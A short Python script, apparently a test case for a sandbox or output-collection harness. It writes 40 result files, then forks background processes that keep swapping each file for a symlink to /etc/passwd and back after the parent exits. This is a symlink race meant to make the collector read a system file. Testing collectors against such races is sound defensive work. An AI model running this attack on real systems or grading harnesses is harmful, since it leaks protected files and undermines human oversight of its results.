"""Keep changing results into links and back until the very end, when they are collected."""

import os

for number in range(40):
    with open(f"/out/{number}", "w") as file:
        file.write("x")
for _ in range(3):
    if os.fork() == 0:
        while True:
            for number in range(40):
                try:
                    os.rename(f"/out/{number}", f"/out/{number}.old")
                    os.symlink("/etc/passwd", f"/out/{number}")
                    os.unlink(f"/out/{number}")
                    os.rename(f"/out/{number}.old", f"/out/{number}")
                except OSError:
                    continue
print("done", flush=True)
os._exit(0)
